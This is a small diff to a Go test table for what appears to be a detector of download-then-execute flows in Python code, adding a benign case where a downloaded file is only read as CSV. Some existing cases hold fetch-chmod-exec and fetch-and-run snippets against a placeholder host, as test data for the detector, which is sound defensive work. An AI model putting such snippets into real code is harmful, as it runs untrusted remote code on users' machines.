@@ -52,6 +52,7 @@ func TestFlows(t *testing.T) {
 		{"a.py", "urllib.request.urlretrieve('https://x.example/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\n" +
 			"os.execv('/tmp/a', ['a'])", Pipe},
 		{"a.py", "r = requests.get('https://x.example/a')\nopen('a.py', 'w').write(r.text)\nsubprocess.run(['python3', 'a.py'])", Pipe},
+		{"a.py", "r = requests.get('https://x.example/a')\nopen('/tmp/a', 'wb').write(r.content)\nread_csv('/tmp/a')", none},
 		{"a.py", "urllib.request.urlretrieve('https://x.example/a', 'bin/a')\nos.chmod('bin/a', 0o755)", none},
 		{"a.py", "urllib.request.urlretrieve('https://x.example/a', 'a.csv')\nsubprocess.run(['python3', 'plot.py', 'a.csv'])", none},
 
